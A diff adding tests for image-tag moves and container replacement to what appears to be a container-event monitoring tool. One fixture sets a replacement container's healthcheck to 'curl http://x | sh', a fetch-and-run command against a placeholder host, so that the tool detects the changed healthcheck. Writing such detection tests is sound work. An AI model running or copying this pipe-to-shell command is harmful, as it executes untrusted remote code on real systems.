@@ -306,3 +306,59 @@ it('two sessions of one recording leave the same items behind', async () => {
   };
   expect(told(await play())).toEqual(told(await play()));
 });
+
+describe('images', () => {
+  const [app, other] = ['a', 'b'].map((letter) => `sha256:${letter.repeat(64)}`) as [string, string];
+  const list = (id: string): void => engine.list([{ Id: id, RepoTags: ['lab/app:1'] }]);
+  const made = { Image: app, Config: { Image: 'lab/app:1' } };
+
+  it('a name that is pointed elsewhere under a running container says so, and containers made from it', async () => {
+    list(app);
+    engine.containers.set(web, inspectOf(web, made));
+    const session = await watch();
+    engine.say({ type: 'image', action: 'tag', actor: other, attributes: { name: 'lab/app:1' }, at: now() });
+    await settle();
+    const tagged = session.items.find((item) => item.kind === 'event');
+    expect(tagged?.image).toMatchObject({ previous_id: app, in_use_by: [web] });
+    say('update');
+    await settle();
+    const updated = session.items.findLast((item) => item.kind === 'event');
+    expect(updated?.lineage).toEqual({ image: { moved: true, registry_new: false }, predecessor: undefined });
+  });
+
+  it('a name that moved while nobody watched is found', async () => {
+    list(app);
+    engine.containers.set(web, inspectOf(web, made));
+    const first = await watch();
+    await first.stop();
+    list(other);
+    const second = await watch({ memory: createMemory(leftBehind(first.items)) });
+    expect(told(second.items)).toContain('image-moved');
+    expect(second.items.find((item) => item.kind === 'image-moved')?.image).toMatchObject({ in_use_by: [web] });
+    const third = await watch({ memory: createMemory(leftBehind([...first.items, ...second.items])) });
+    expect(told(third.items)).not.toContain('image-moved');
+  });
+
+  it('of an engine that does not list them, or of the regular look, nothing is asked and nothing said', async () => {
+    engine.list(undefined);
+    engine.containers.set(web, inspectOf(web, made));
+    const session = await watch();
+    expect(session.items.find((item) => item.kind === 'snapshot')?.lineage).toEqual({
+      image: {},
+      predecessor: undefined,
+    });
+    await vi.advanceTimersByTimeAsync(61_000);
+    expect(engine.requests.filter((request) => request === 'images')).toHaveLength(1);
+  });
+
+  it('a replacement is compared with the container that had its name', async () => {
+    const test = (text: string) => ({ Config: { Image: 'lab/app:1', Healthcheck: { Test: ['CMD-SHELL', text] } } });
+    engine.containers.set(web, inspectOf(web, { Name: '/db', ...test('true') }));
+    const session = await watch();
+    const next = hexId('next');
+    create(next, { Name: '/db', ...test('curl http://x | sh') });
+    await settle();
+    const created = session.items.findLast((item) => item.kind === 'event');
+    expect(created?.lineage?.predecessor).toEqual({ image_changed: false, healthcheck_changed: true });
+  });
+});
